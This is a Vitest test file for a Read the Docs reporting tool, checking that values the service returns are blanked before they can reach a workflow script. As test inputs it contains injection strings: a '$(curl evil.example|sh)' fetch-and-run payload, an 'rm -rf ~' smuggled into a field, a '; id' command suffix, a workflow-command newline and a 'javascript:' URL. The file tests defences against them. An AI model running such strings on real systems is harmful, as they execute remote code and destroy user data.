import { describe, expect, it } from 'vitest';
import { checkedResult, plainUrl, serviceDomains } from '../src/reporting/output-values.js';
import type { ProjectResult } from '../src/operations/types.js';

const BASE = 'https://app.readthedocs.org';
const good: ProjectResult = {
  project: 'docs',
  outcome: 'success',
  buildUrl: 'https://readthedocs.org/projects/docs/builds/42/',
  docsUrl: 'https://docs.example.com/en/latest/',
  previewUrl: 'https://docs--7.org.readthedocs.build/en/7/',
  state: 'finished',
  commit: '3f2a9c1d5e7b4a6c8d0e2f4a6b8c0d2e4f6a8b0c',
} as ProjectResult;

function check(result: ProjectResult) {
  const warnings: string[] = [];
  return { checked: checkedResult(result, BASE, (message) => warnings.push(message)), warnings };
}

describe('outputs from service values', () => {
  it('passes real values through unchanged', () => {
    const { checked, warnings } = check(good);
    expect(checked).toEqual(good);
    expect(warnings).toEqual([]);
  });

  it('empties, with a warning each, values that could inject into a `run:` script or lead elsewhere', () => {
    const { checked, warnings } = check({
      ...good,
      buildUrl: 'https://evil.example/projects/docs/builds/42/',
      docsUrl: 'https://docs.example.com/$(curl evil.example|sh)/',
      previewUrl: 'https://docs.example.com/\n::set-output name=x::y',
      state: 'finished"; rm -rf ~; echo "',
      commit: 'abc123; id',
    });
    expect(checked.buildUrl).toBeUndefined();
    expect(checked.docsUrl).toBeUndefined();
    expect(checked.previewUrl).toBeUndefined();
    expect(checked.state).toBeUndefined();
    expect(checked.commit).toBeUndefined();
    expect(warnings).toHaveLength(5);
    expect(warnings[0]).toBe(
      "docs: the service's value for output `build-url` is not a plain http(s) URL on the service; the output is left empty",
    );
  });

  it('knows the service’s domains', () => {
    expect(serviceDomains(BASE)).toEqual(['app.readthedocs.org', 'readthedocs.org']);
    expect(serviceDomains('http://127.0.0.1:8000')).toEqual(['127.0.0.1']);
    expect(plainUrl('https://app.readthedocs.com/projects/x/builds/1/', serviceDomains('https://app.readthedocs.com'))).toBeDefined();
    expect(plainUrl('https://readthedocs.org.evil.example/', serviceDomains(BASE))).toBeUndefined();
    expect(plainUrl('javascript:alert(1)')).toBeUndefined();
  });
});
